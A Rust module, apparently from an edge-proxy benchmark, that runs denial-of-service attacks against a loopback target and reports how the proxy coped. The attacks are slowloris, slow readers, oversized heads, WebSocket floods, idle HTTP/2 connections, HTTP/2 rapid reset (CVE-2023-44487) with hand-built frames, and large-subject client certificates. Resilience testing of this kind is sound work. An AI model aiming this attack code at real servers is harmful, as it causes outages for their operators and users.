//! The attacks of the abuse scenario: what a hostile client sends to an edge proxy, each run by
//! a fixed number of attacker connections for a bounded time against one loopback target while
//! the legitimate load goes on. An attacker whose connection the server closes reconnects after
//! a short pause, as a real one would; what the server did to them (how many it closed, after
//! how long) is reported beside what the legitimate clients saw.
//!
//! Every attack speaks just enough of the protocol to be what it claims: the HTTP/2 ones send
//! real frames (and an idle HTTP/2 client answers PINGs and SETTINGS, so an idle timeout — not
//! a broken client — is what must end it).

use std::sync::Arc;
use std::sync::Mutex;
use std::sync::atomic::{AtomicI64, AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep, sleep_until, timeout_at};

use super::conn::{Connector, Stream};

/// One attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// No attack: the baseline.
    None,
    /// Connections that send the first line of the HTTP/2 preface and wait.
    H2PrefaceHold,
    /// Complete HTTP/2 connections (ALPN h2, preface, SETTINGS) that open no stream and answer
    /// PINGs.
    H2Idle,
    /// HTTP/1 heads sent one field line per second, never finished.
    Slowloris,
    /// Requests for large responses, read a few bytes every two seconds through a 4 KiB
    /// receive window.
    SlowReader,
    /// Request heads of about 12 KB (under every peer's limit: HAProxy's is its 16 KiB
    /// buffer), never finished.
    MaxHeads,
    /// WebSocket upgrades to the backends' echo, then held open and idle.
    UpgradeFlood,
    /// HTTP/2 streams opened and reset at once, in batches (CVE-2023-44487).
    RapidReset,
    /// TLS handshakes to a host that asks for client certificates, each presenting a
    /// self-signed certificate with a 30 KB subject, then one request.
    CertSubject,
}

impl Attack {
    /// Every attack, the baseline first.
    pub const ALL: [Attack; 9] = [
        Attack::None,
        Attack::H2PrefaceHold,
        Attack::H2Idle,
        Attack::Slowloris,
        Attack::SlowReader,
        Attack::MaxHeads,
        Attack::UpgradeFlood,
        Attack::RapidReset,
        Attack::CertSubject,
    ];

    /// Report and command-line name.
    pub fn name(self) -> &'static str {
        match self {
            Attack::None => "none",
            Attack::H2PrefaceHold => "h2-preface-hold",
            Attack::H2Idle => "h2-idle",
            Attack::Slowloris => "h1-slowloris",
            Attack::SlowReader => "slow-reader",
            Attack::MaxHeads => "max-heads",
            Attack::UpgradeFlood => "upgrade-flood",
            Attack::RapidReset => "rapid-reset",
            Attack::CertSubject => "cert-subject",
        }
    }

    /// Parses a [`Attack::name`].
    pub fn parse(s: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|a| a.name() == s)
    }

    /// What it sends, for the report.
    pub fn what(self) -> &'static str {
        match self {
            Attack::None => "no attack (baseline)",
            Attack::H2PrefaceHold => "`PRI * HTTP/2.0` and nothing more, held",
            Attack::H2Idle => "HTTP/2 preface + SETTINGS, no stream, PINGs answered",
            Attack::Slowloris => "an HTTP/1 head, one field line per second, never finished",
            Attack::SlowReader => {
                "GET of a 4 MiB response, read 16 bytes every 2 s through a 4 KiB receive buffer"
            }
            Attack::MaxHeads => {
                "a 12 KB request head (3 lines of 4 KB; HAProxy refuses heads above its 16 KiB buffer), never finished, held"
            }
            Attack::UpgradeFlood => "WebSocket upgrade to /ws (the backends echo), then idle",
            Attack::RapidReset => "HTTP/2 HEADERS + RST_STREAM pairs, 100 per write, every 10 ms",
            Attack::CertSubject => {
                "TLS handshakes to a host that asks for client certificates (mtls.bench.local), each presenting a self-signed certificate whose subject's O= is 30 KB, then one request with Connection: close; sluice only (the one peer set up with such a host)"
            }
        }
    }

    /// Whether it speaks HTTP/2 (ALPN `h2` on TLS, prior knowledge on plain TCP).
    pub fn is_h2(self) -> bool {
        matches!(
            self,
            Attack::H2PrefaceHold | Attack::H2Idle | Attack::RapidReset
        )
    }

    /// How many attacker connections, given the scenario's count: the costly ones (for the
    /// backends or the load generator's own core) use fewer.
    pub fn connections(self, n: usize) -> usize {
        match self {
            Attack::None => 0,
            Attack::RapidReset | Attack::CertSubject => n.min(20),
            Attack::SlowReader => n.min(100),
            _ => n,
        }
    }
}

/// Where and how long.
#[derive(Debug)]
pub struct AttackSpec {
    /// Which attack.
    pub attack: Attack,
    /// Attacker connections (after [`Attack::connections`]).
    pub connections: usize,
    /// Opens attacker connections to the target (TLS with the attack's ALPN, if any).
    pub connector: Arc<Connector>,
    /// `Host` / `:authority`.
    pub host: String,
    /// TLS (`https` in `:scheme`).
    pub tls: bool,
    /// When to start.
    pub start: Instant,
    /// When to stop (every attacker connection is dropped then).
    pub end: Instant,
}

/// What happened to the attackers.
#[derive(Debug, Clone, Default, PartialEq, serde::Serialize, serde::Deserialize)]
pub struct AttackReport {
    /// Attacker connections configured.
    pub connections: usize,
    /// Connections opened (handshake included).
    pub opened: u64,
    /// Connection attempts that failed (refused, timed out, handshake failed).
    pub connect_failed: u64,
    /// Most attacker connections open at once.
    pub max_open: u64,
    /// Attacker connections the server closed before the end.
    pub closed_by_server: u64,
    /// Median time the server let an attacker connection live, of those it closed (s).
    pub closed_after_p50_s: Option<f64>,
    /// HTTP/2 streams opened and reset (rapid reset).
    pub streams_reset: u64,
}

impl AttackReport {
    /// One line for the report's notes.
    pub fn summary(&self, attack: Attack) -> String {
        let mut s = format!(
            "attack {}: {} attacker connections; {} opened, {} connects failed, at most {} open at once, {} closed by the server",
            attack.name(),
            self.connections,
            self.opened,
            self.connect_failed,
            self.max_open,
            self.closed_by_server,
        );
        if let Some(p50) = self.closed_after_p50_s {
            s.push_str(&format!(" (median after {p50:.2} s)"));
        }
        if attack == Attack::RapidReset {
            s.push_str(&format!(
                "; {} streams opened and reset",
                self.streams_reset
            ));
        }
        s
    }
}

#[derive(Debug, Default)]
struct Counters {
    opened: AtomicU64,
    connect_failed: AtomicU64,
    open: AtomicI64,
    max_open: AtomicU64,
    closed_by_server: AtomicU64,
    lifetimes: Mutex<Vec<f64>>,
    streams: AtomicU64,
}

/// The connector an attack's connections use: `target`, with TLS (certificate not checked)
/// offering the attack's ALPN when `tls` is given, and a small receive buffer for the slow
/// reader.
pub fn connector(
    a: Attack,
    target: std::net::SocketAddr,
    tls: Option<&super::TlsSpec>,
) -> Result<Arc<Connector>, super::conn::TlsConfigError> {
    let alpn: &[&[u8]] = if a.is_h2() { &[b"h2"] } else { &[b"http/1.1"] };
    if let (Attack::CertSubject, Some(spec)) = (a, tls) {
        let (cfg, name) = super::cert_attack::config(spec)?;
        return Ok(Arc::new(Connector::with_config(vec![target], cfg, &name)?));
    }
    let mut c = Connector::with_alpn(vec![target], tls, alpn)?;
    if a == Attack::SlowReader {
        c = c.with_recv_buffer(4096);
    }
    Ok(Arc::new(c))
}

/// The attackers' first connections are spread evenly over this long (500 attackers: one every
/// 2 ms), the same pace against every peer. Opening them as fast as each peer completes
/// handshakes instead made the attacker's own CPU burst — on the core the load generator and
/// the backends share — shortest and sharpest against the fastest peer, and that burst, not
/// the peer, showed up in its legitimate p99.
const RAMP: Duration = Duration::from_secs(1);
/// Pause before an attacker whose connection was closed (or refused) tries again.
const RETRY: Duration = Duration::from_millis(100);

/// Runs the attack from `spec.start` to `spec.end`.
pub async fn run(spec: AttackSpec) -> AttackReport {
    let spec = Arc::new(spec);
    let counters = Arc::new(Counters::default());
    if spec.attack == Attack::None {
        return AttackReport::default();
    }
    let mut set = JoinSet::new();
    let n = u32::try_from(spec.connections.max(1)).unwrap_or(u32::MAX);
    for i in 0..n {
        let (spec, counters) = (Arc::clone(&spec), Arc::clone(&counters));
        let first = spec.start + RAMP * i / n;
        set.spawn(async move {
            sleep_until(first).await;
            attacker(spec, counters).await;
        });
    }
    sleep_until(spec.end).await;
    set.abort_all();
    while set.join_next().await.is_some() {}
    let mut lifetimes = counters
        .lifetimes
        .lock()
        .map(|l| l.clone())
        .unwrap_or_default();
    lifetimes.sort_by(f64::total_cmp);
    AttackReport {
        connections: spec.connections,
        opened: counters.opened.load(Ordering::Relaxed),
        connect_failed: counters.connect_failed.load(Ordering::Relaxed),
        max_open: counters.max_open.load(Ordering::Relaxed),
        closed_by_server: counters.closed_by_server.load(Ordering::Relaxed),
        closed_after_p50_s: lifetimes.get(lifetimes.len() / 2).copied(),
        streams_reset: counters.streams.load(Ordering::Relaxed),
    }
}

/// One attacker: connect, attack until the server closes, pause, again — until the end.
async fn attacker(spec: Arc<AttackSpec>, c: Arc<Counters>) {
    while Instant::now() < spec.end {
        let stream = spec
            .connector
            .connect(Instant::now() + Duration::from_secs(5))
            .await;
        let Ok(stream) = stream else {
            c.connect_failed.fetch_add(1, Ordering::Relaxed);
            sleep(RETRY).await;
            continue;
        };
        c.opened.fetch_add(1, Ordering::Relaxed);
        let open = c.open.fetch_add(1, Ordering::Relaxed) + 1;
        c.max_open
            .fetch_max(u64::try_from(open).unwrap_or(0), Ordering::Relaxed);
        let since = Instant::now();
        let ended = timeout_at(spec.end, behave(&spec, stream, &c)).await;
        c.open.fetch_sub(1, Ordering::Relaxed);
        if ended.is_err() {
            return;
        }
        c.closed_by_server.fetch_add(1, Ordering::Relaxed);
        if let Ok(mut l) = c.lifetimes.lock() {
            l.push(since.elapsed().as_secs_f64());
        }
        sleep(RETRY).await;
    }
}

/// Reads until the server closes.
async fn until_closed(s: &mut Stream) {
    let mut buf = vec![0u8; 4096];
    while matches!(s.read(&mut buf).await, Ok(n) if n > 0) {}
}

/// Does the attack on one connection; returns when the server has closed it.
async fn behave(spec: &AttackSpec, mut s: Stream, c: &Counters) {
    let host = &spec.host;
    match spec.attack {
        Attack::None => {}
        Attack::H2PrefaceHold => {
            if s.write_all(b"PRI * HTTP/2.0\r\n\r\n").await.is_ok() {
                until_closed(&mut s).await;
            }
        }
        Attack::H2Idle => {
            if h2_start(&mut s).await.is_ok() {
                h2_idle(&mut s).await;
            }
        }
        Attack::Slowloris => {
            let head = format!("GET / HTTP/1.1\r\nHost: {host}\r\n");
            if s.write_all(head.as_bytes()).await.is_err() {
                return;
            }
            let mut buf = [0u8; 512];
            for i in 0u64.. {
                tokio::select! {
                    r = s.read(&mut buf) => if !matches!(r, Ok(n) if n > 0) { return },
                    () = sleep(Duration::from_secs(1)) => {
                        let line = format!("X-Slow-{i}: 1\r\n");
                        if s.write_all(line.as_bytes()).await.is_err() {
                            return;
                        }
                    }
                }
            }
        }
        Attack::SlowReader => {
            let req = format!("GET /?size={} HTTP/1.1\r\nHost: {host}\r\n\r\n", 4 << 20);
            if s.write_all(req.as_bytes()).await.is_err() {
                return;
            }
            let mut buf = [0u8; 16];
            loop {
                sleep(Duration::from_secs(2)).await;
                if !matches!(s.read(&mut buf).await, Ok(n) if n > 0) {
                    return;
                }
            }
        }
        Attack::MaxHeads => {
            let mut head = format!("GET / HTTP/1.1\r\nHost: {host}\r\n");
            for i in 0..3 {
                head.push_str(&format!("X-Pad-{i}: {}\r\n", "a".repeat(4000)));
            }
            if s.write_all(head.as_bytes()).await.is_ok() {
                until_closed(&mut s).await;
            }
        }
        Attack::UpgradeFlood => {
            let req = format!(
                "GET /ws HTTP/1.1\r\nHost: {host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
            );
            if s.write_all(req.as_bytes()).await.is_ok() {
                until_closed(&mut s).await;
            }
        }
        Attack::RapidReset => {
            if h2_start(&mut s).await.is_ok() {
                rapid_reset(&mut s, host, spec.tls, c).await;
            }
        }
        Attack::CertSubject => {
            // The handshake (with the certificate) is done; one request, and the next
            // handshake once the server closes.
            let req = format!(
                "GET / HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n",
                super::cert_attack::MTLS_HOST
            );
            if s.write_all(req.as_bytes()).await.is_ok() {
                until_closed(&mut s).await;
            }
        }
    }
}

/// The client connection preface and an empty SETTINGS frame.
pub(crate) async fn h2_start(s: &mut Stream) -> std::io::Result<()> {
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    frame(&mut out, 4, 0, 0, &[]);
    s.write_all(&out).await
}

/// Appends one HTTP/2 frame.
pub(crate) fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = u32::try_from(payload.len()).unwrap_or(0);
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.push(kind);
    out.push(flags);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
}

/// Takes the complete frames at the front of `buf`, calling `each` with every frame's type,
/// flags, stream id and payload; a partial frame at the end stays for the next read.
pub(crate) fn take_frames(buf: &mut Vec<u8>, mut each: impl FnMut(u8, u8, u32, &[u8])) {
    let mut at = 0;
    while buf.len() >= at + 9 {
        let len =
            usize::from(buf[at]) << 16 | usize::from(buf[at + 1]) << 8 | usize::from(buf[at + 2]);
        if buf.len() < at + 9 + len {
            break;
        }
        let stream =
            u32::from_be_bytes([buf[at + 5], buf[at + 6], buf[at + 7], buf[at + 8]]) & 0x7fff_ffff;
        each(buf[at + 3], buf[at + 4], stream, &buf[at + 9..at + 9 + len]);
        at += 9 + len;
    }
    buf.drain(..at);
}

/// The acknowledgement a well-behaved client owes for one frame (SETTINGS ACK, PING ACK),
/// appended to `out`.
pub(crate) fn ack(out: &mut Vec<u8>, kind: u8, flags: u8, payload: &[u8]) {
    match (kind, flags & 1) {
        (4, 0) => frame(out, 4, 1, 0, &[]),
        (6, 0) => frame(out, 6, 1, 0, payload),
        _ => {}
    }
}

/// Takes the complete frames at the front of `buf` and returns the acknowledgements owed.
fn h2_replies(buf: &mut Vec<u8>) -> Vec<u8> {
    let mut out = Vec::new();
    take_frames(buf, |kind, flags, _, payload| {
        ack(&mut out, kind, flags, payload);
    });
    out
}

/// An idle HTTP/2 client: answers what it must, opens nothing, until the server closes.
async fn h2_idle(s: &mut Stream) {
    let (mut buf, mut chunk) = (Vec::new(), vec![0u8; 4096]);
    loop {
        match s.read(&mut chunk).await {
            Ok(n) if n > 0 => buf.extend_from_slice(&chunk[..n]),
            _ => return,
        }
        let replies = h2_replies(&mut buf);
        if !replies.is_empty() && s.write_all(&replies).await.is_err() {
            return;
        }
    }
}

/// Opens and resets streams in batches until the server closes (or the stream ids run out).
async fn rapid_reset(s: &mut Stream, host: &str, tls: bool, c: &Counters) {
    // :method GET, :scheme http(s), :path / from the static table; :authority as a literal
    // without indexing (static name 1).
    let mut block = vec![0x82, if tls { 0x87 } else { 0x86 }, 0x84, 0x01];
    block.push(u8::try_from(host.len().min(127)).unwrap_or(0));
    block.extend_from_slice(&host.as_bytes()[..host.len().min(127)]);
    let cancel = 8u32.to_be_bytes();
    let (mut rd, mut wr) = tokio::io::split(s);
    // Acknowledgements go from the reader to the writer, so neither side ever waits on the
    // other and a batch is never cut in the middle of a frame.
    let (acks, mut owed) = tokio::sync::mpsc::unbounded_channel::<Vec<u8>>();
    let reader = async move {
        let (mut buf, mut chunk) = (Vec::new(), vec![0u8; 16384]);
        loop {
            match rd.read(&mut chunk).await {
                Ok(n) if n > 0 => buf.extend_from_slice(&chunk[..n]),
                _ => return,
            }
            let replies = h2_replies(&mut buf);
            if !replies.is_empty() && acks.send(replies).is_err() {
                return;
            }
        }
    };
    let writer = async {
        let mut id: u32 = 1;
        while id < (1 << 30) {
            let mut out = Vec::with_capacity(100 * (block.len() + 31));
            while let Ok(ack) = owed.try_recv() {
                out.extend_from_slice(&ack);
            }
            for _ in 0..100 {
                frame(&mut out, 1, 0x5, id, &block);
                frame(&mut out, 3, 0, id, &cancel);
                id += 2;
            }
            if wr.write_all(&out).await.is_err() {
                return;
            }
            c.streams.fetch_add(100, Ordering::Relaxed);
            sleep(Duration::from_millis(10)).await;
        }
        // Out of stream ids: wait for the reader to see the close.
        std::future::pending::<()>().await;
    };
    tokio::select! {
        () = reader => {}
        () = writer => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn settings_and_pings_are_acknowledged_and_partial_frames_wait() {
        let mut buf = Vec::new();
        frame(&mut buf, 4, 0, 0, &[0, 3, 0, 0, 0, 100]);
        frame(&mut buf, 6, 0, 0, b"12345678");
        frame(&mut buf, 6, 1, 0, b"ackedack");
        buf.extend_from_slice(&[0, 0, 8, 6]);
        let out = h2_replies(&mut buf);
        let mut want = Vec::new();
        frame(&mut want, 4, 1, 0, &[]);
        frame(&mut want, 6, 1, 0, b"12345678");
        assert_eq!(out, want);
        assert_eq!(buf, [0, 0, 8, 6], "the partial frame stays");
    }

    #[test]
    fn names_round_trip() {
        for a in Attack::ALL {
            assert_eq!(Attack::parse(a.name()), Some(a));
        }
        assert_eq!(Attack::RapidReset.connections(500), 20);
    }
}
